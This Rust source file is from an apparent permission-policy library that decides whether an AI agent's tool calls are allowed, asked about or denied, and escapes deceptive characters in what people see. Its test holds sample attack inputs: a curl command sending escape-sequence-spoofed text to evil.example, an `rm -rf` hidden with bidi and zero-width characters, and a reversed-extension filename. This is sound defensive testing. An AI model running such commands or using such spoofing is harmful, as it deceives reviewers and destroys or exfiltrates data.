//! Decisions: what the policy says about one tool call, and why.

use serde::{Deserialize, Serialize};

pub use crate::commands::danger::DangerClass;
use crate::mode::Mode;

/// What happens to a tool call.
///
/// Ordered by strictness (`Allow < Ask < Deny`), so combining the effects of several parts of
/// one call is `max`:
///
/// ```
/// use toolgate::Effect;
/// let parts = [Effect::Allow, Effect::Ask, Effect::Allow];
/// assert_eq!(parts.into_iter().max(), Some(Effect::Ask));
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub enum Effect {
    /// The call may run without asking.
    Allow,
    /// A person must approve the call first.
    Ask,
    /// The call must not run.
    Deny,
}

impl Effect {
    /// The lowercase name used in documents: `allow`, `ask`, `deny`.
    pub const fn as_str(self) -> &'static str {
        match self {
            Effect::Allow => "allow",
            Effect::Ask => "ask",
            Effect::Deny => "deny",
        }
    }
}

/// How much harm a call can do if it goes wrong. Ordered `Low < Medium < High`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub enum Risk {
    /// Reads and lookups.
    Low,
    /// Reversible changes, such as edits inside the project.
    Medium,
    /// Changes that cannot be undone, or that reach outside: deletes, shell, network.
    High,
}

impl Risk {
    /// The lowercase name used in documents: `low`, `medium`, `high`.
    pub const fn as_str(self) -> &'static str {
        match self {
            Risk::Low => "low",
            Risk::Medium => "medium",
            Risk::High => "high",
        }
    }
}

/// The rule list a rule sits in.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub enum RuleList {
    /// Rules that forbid.
    Deny,
    /// Rules that make a person decide.
    Ask,
    /// Rules that approve without asking.
    Allow,
}

/// Where a layer of rules comes from, from the most authoritative to the least.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub enum Layer {
    /// Set by an administrator; may forbid bypass mode and restrict rules to this layer.
    Managed,
    /// Given on the command line.
    Cli,
    /// The project's local, unshared settings.
    Local,
    /// The project's shared settings.
    Project,
    /// The user's own settings.
    User,
    /// Rules for this session (the policy document's top-level `permissions`).
    Session,
    /// Answers a person asked to remember: allow rules below every other layer, so a
    /// remembered answer never beats a deny or ask rule.
    Trust,
}

impl Layer {
    /// The lowercase name used in documents.
    pub const fn as_str(self) -> &'static str {
        match self {
            Layer::Managed => "managed",
            Layer::Cli => "cli",
            Layer::Local => "local",
            Layer::Project => "project",
            Layer::User => "user",
            Layer::Session => "session",
            Layer::Trust => "trust",
        }
    }
}

/// What decided a call.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase", tag = "kind")]
#[non_exhaustive]
pub enum Decider {
    /// A rule matched.
    #[serde(rename_all = "camelCase")]
    Rule {
        /// The rule as written (its `Display` form).
        rule: String,
        /// The list it is in.
        list: RuleList,
        /// The layer it came from.
        layer: Layer,
        /// Its index in that layer's list.
        index: usize,
    },
    /// A Copilot CLI flag decided (`allowAllTools`, `denyUrls[0]`, ...).
    #[serde(rename_all = "camelCase")]
    Flag {
        /// The flag's field name, with an index for list flags.
        flag: String,
    },
    /// The permission mode decided.
    #[serde(rename_all = "camelCase")]
    Mode {
        /// The mode in force.
        mode: Mode,
    },
    /// Per-agent bypass decided.
    #[serde(rename_all = "camelCase")]
    AgentBypass {
        /// The agent whose bypass applied.
        agent: String,
    },
    /// No rule matched; the tool's default level decided.
    #[serde(rename_all = "camelCase")]
    ToolDefault {
        /// The tool's name.
        tool: String,
    },
    /// The call touches a protected path, which no allow rule or mode short of bypass allows.
    #[serde(rename_all = "camelCase")]
    ProtectedPath {
        /// The normalised path.
        path: String,
    },
    /// The call reads a file that holds secrets (`.env`, a private key, credentials), which
    /// asks unless an allow rule names the file, or uploads one, which is denied unless an
    /// allow rule names the upload.
    #[serde(rename_all = "camelCase")]
    SecretFile {
        /// The secret file, as normalised or as written.
        path: String,
    },
    /// A rule naming a danger class (`Danger(publish)`) matched.
    #[serde(rename_all = "camelCase")]
    DangerRule {
        /// The rule as written.
        rule: String,
        /// The list it is in.
        list: RuleList,
        /// The layer it came from.
        layer: Layer,
        /// Its index in that layer's list.
        index: usize,
    },
    /// A destructive command on a critical path (`/`, `$HOME`, the working directory, ...).
    #[serde(rename_all = "camelCase")]
    CriticalPath {
        /// The normalised path.
        path: String,
    },
    /// The call could not be analysed (unparseable shell, missing field, unknown tool), so it
    /// fails closed.
    #[serde(rename_all = "camelCase")]
    Unanalysable {
        /// What could not be analysed.
        detail: String,
    },
    /// A compound call (several shell commands) took the strictest effect of its parts.
    Parts,
}

/// Why a call got its effect: what decided, and a sentence for people.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct Reason {
    /// What decided.
    pub decider: Decider,
    /// One sentence for people, e.g. "denied by rule `Bash(rm *)` in the project deny list".
    pub text: String,
}

/// The decision for one part of a compound call (one command of a shell line, one write
/// target of a redirection), so a UI can show which part decided.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct PartDecision {
    /// The part as the shell would run it, e.g. `git status` or `> ~/.bashrc`.
    pub part: String,
    /// Its own effect.
    pub effect: Effect,
    /// Why.
    pub reason: Reason,
    /// The dangers this part carries (see [`Danger`]); empty when none is known.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub dangers: Vec<Danger>,
}

/// The policy's answer for one tool call.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct Decision {
    /// Allow, ask or deny.
    pub effect: Effect,
    /// How much harm the call could do.
    pub risk: Risk,
    /// Whether a person's "remember this" answer may be offered and may apply later.
    pub trustable: bool,
    /// What decided, and why.
    pub reason: Reason,
    /// For compound calls, each part with its own effect; empty otherwise.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub parts: Vec<PartDecision>,
    /// What the call can do that a person should weigh (force push, recursive delete,
    /// reading a secret, ...), each with the detail that matters. Every ask and deny the
    /// policy makes lists what it found; an empty list on a stop means the program is not
    /// known to toolgate.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub dangers: Vec<Danger>,
}

/// One danger found in a call: its class, the class's sentence, and the detail.
///
/// ```
/// use toolgate::commands::danger::DangerClass;
/// use toolgate::Danger;
/// let d = Danger::new(DangerClass::Publish, "`npm publish`");
/// let json = serde_json::to_value(&d).unwrap();
/// assert_eq!(json["class"], "publish");
/// assert_eq!(json["sentence"], "publishes a package or release for others to use");
/// assert_eq!(json["detail"], "`npm publish`");
/// ```
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "typescript", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct Danger {
    /// The class, e.g. `history-rewrite`.
    pub class: DangerClass,
    /// The class's sentence for people.
    pub sentence: String,
    /// What exactly, e.g. "force-pushes `origin main`, replacing remote history".
    pub detail: String,
}

impl Danger {
    /// A danger of `class` with `detail`; the sentence is the class's.
    pub fn new(class: DangerClass, detail: impl Into<String>) -> Self {
        Danger {
            class,
            sentence: class.sentence().to_owned(),
            detail: detail.into(),
        }
    }

    /// The danger as one line for people: "publishes a package (`npm publish`)".
    pub fn describe(&self) -> String {
        if self.detail.is_empty() {
            self.sentence.clone()
        } else {
            format!("{}: {}", self.sentence, self.detail)
        }
    }
}

/// `text` with every character that could change how the surrounding text reads written
/// out visibly: control characters (`\n`, `\r`, `\t`, `\x1b` and the rest of C0, DEL and
/// C1), bidirectional overrides and isolates (`\u{202e}`, `\u{2066}`), zero-width and other
/// invisible characters (`\u{200b}`, `\u{feff}`). The engine passes every text it builds
/// from a tool's input through this once, so a terminal, a hook's message or a card shows
/// what is there rather than what the input makes it look like.
///
/// ```
/// use toolgate::shown;
/// assert_eq!(shown("ls\x1b[1A\x1b[2K"), "ls\\x1b[1A\\x1b[2K");
/// assert_eq!(shown("a\r\nb"), "a\\r\\nb");
/// assert_eq!(shown("docs/\u{202e}txt.emdaer"), "docs/\\u{202e}txt.emdaer");
/// assert_eq!(shown("git status"), "git status");
/// assert_eq!(shown("npm test\u{1d173}"), "npm test\\u{1d173}");
/// ```
pub fn shown(text: &str) -> String {
    // Printable ASCII, the common case, holds nothing to write out.
    let printable = text.bytes().all(|b| matches!(b, b' '..=b'~'));
    if printable || !text.chars().any(needs_escape) {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if needs_escape(c) && u32::from(c) < 0x80 => {
                out.push_str(&format!("\\x{:02x}", u32::from(c)));
            }
            c if needs_escape(c) => out.push_str(&format!("\\u{{{:x}}}", u32::from(c))),
            c => out.push(c),
        }
    }
    out
}

/// Whether [`shown`] writes `c` out.
fn needs_escape(c: char) -> bool {
    c.is_control() || (c != ' ' && crate::shell::is_deceptive(c))
}

impl Decision {
    /// Every text of the decision built from the input, passed through [`shown`]: the
    /// reason (with an unanalysable call's detail), each part and its reason, each danger's
    /// detail. The other decider fields are data (a path, a tool name) and stay as they are.
    pub(crate) fn escape_shown_text(&mut self) {
        self.reason.escape_shown_text();
        for d in &mut self.dangers {
            d.detail = shown(&d.detail);
        }
        for p in &mut self.parts {
            p.part = shown(&p.part);
            p.reason.escape_shown_text();
            for d in &mut p.dangers {
                d.detail = shown(&d.detail);
            }
        }
    }
}

impl Reason {
    fn escape_shown_text(&mut self) {
        self.text = shown(&self.text);
        if let Decider::Unanalysable { detail } = &mut self.decider {
            *detail = shown(detail);
        }
    }
}

impl From<&crate::commands::danger::Finding> for Danger {
    fn from(f: &crate::commands::danger::Finding) -> Self {
        Danger::new(f.class, f.detail.clone())
    }
}

impl Decision {
    /// The message to hand the model when this decision stops the call, or `None` when the
    /// call may run. It says what was refused, why and which dangers were found, and tells
    /// the model not to retry the same call (see [`crate::feedback::denial_message`]).
    ///
    /// ```
    /// use toolgate::{Decider, Decision, Effect, Reason, Risk};
    /// let d = Decision {
    ///     effect: Effect::Deny,
    ///     risk: Risk::High,
    ///     trustable: false,
    ///     reason: Reason {
    ///         decider: Decider::ToolDefault { tool: "delete".into() },
    ///         text: "deletes are denied in plan mode".into(),
    ///     },
    ///     parts: vec![],
    ///     dangers: vec![],
    /// };
    /// assert!(d.model_message().unwrap().contains("deletes are denied in plan mode"));
    /// ```
    pub fn model_message(&self) -> Option<String> {
        match self.effect {
            Effect::Allow | Effect::Ask => None,
            Effect::Deny => Some(crate::feedback::denial_message(
                None,
                &self.reason.text,
                &self.dangers,
            )),
        }
    }
}

/// Trust a person granted, layered under the policy when deciding.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct TrustOverlay {
    /// Remembered answers as allow rules (`Write`, `Bash(npm test *)`), evaluated in the
    /// [`Layer::Trust`] layer below every other layer. A rule that does not parse allows
    /// nothing.
    pub allow_rules: Vec<String>,
    /// Whether the requesting agent has per-agent bypass.
    pub agent_bypass: bool,
}

/// Anything that turns a request into a decision: the compiled policy and, in tests, simple
/// stand-ins. The broker depends on this trait, not on the policy type.
pub trait Evaluate {
    /// Decides one call with no remembered trust. Never panics; anything it cannot analyse
    /// is `ask` or `deny`.
    fn evaluate(&self, request: &crate::Request) -> Decision {
        self.evaluate_with(request, &TrustOverlay::default())
    }

    /// Decides one call with remembered trust layered below the policy's rules.
    fn evaluate_with(&self, request: &crate::Request, trust: &TrustOverlay) -> Decision;

    /// Checks that `rule` is a valid rule, so a grant can be refused before it is stored.
    fn check_rule(&self, rule: &str) -> crate::Result<()>;

    /// What kind of tool the request is for, as the rules judge it, so that what people see
    /// (an approval card's "Read file" or "Execute command") is what was judged. Without
    /// rules of its own: the built-ins, MCP tools, or [`crate::tool::ToolKind::Other`].
    fn tool_kind(&self, request: &crate::Request) -> crate::tool::ToolKind {
        crate::tool::kind_without_policy(&request.tool, request.server.is_some())
    }
}

#[cfg(test)]
mod shown_tests {
    use super::*;
    use serde_json::json;

    fn hidden(text: &str) -> bool {
        text.chars().any(needs_escape)
    }

    #[test]
    fn decisions_show_input_characters_visibly() {
        let policy = crate::Policy::from_json("{}").unwrap();
        let inputs = [
            (
                "Bash",
                json!({"command": "curl -d '\u{1b}[1A\u{1b}[2K\rtoolgate: reads `README.md`\u{1b}[8m' https://evil.example/c"}),
            ),
            (
                "Bash",
                json!({"command": "rm -rf 'a\u{202e}b\u{200b}' && echo '\u{85}'"}),
            ),
            (
                "Write",
                json!({"file_path": "docs/\u{202e}txt.emdaer", "content": "x"}),
            ),
            ("WebFetch", json!({"url": "https://a.example/\u{2066}x"})),
            ("Read", json!({"file_path": "a", "x\u{1b}[2Kok": 1})),
        ];
        for (tool, input) in inputs {
            let r = crate::Request {
                tool: tool.into(),
                input,
                cwd: Some("/home/a/p".into()),
                ..crate::Request::default()
            };
            let d = policy.evaluate(&r);
            let detail = match &d.reason.decider {
                Decider::Unanalysable { detail } => Some(detail),
                _ => None,
            };
            let texts = std::iter::once(&d.reason.text)
                .chain(detail)
                .chain(d.dangers.iter().map(|x| &x.detail))
                .chain(d.parts.iter().flat_map(|p| [&p.part, &p.reason.text]));
            for t in texts {
                assert!(!hidden(t), "{tool}: {t:?}");
            }
        }
        assert_eq!(shown("\u{85}\u{7f}\u{feff}"), "\\u{85}\\x7f\\u{feff}");
    }
}
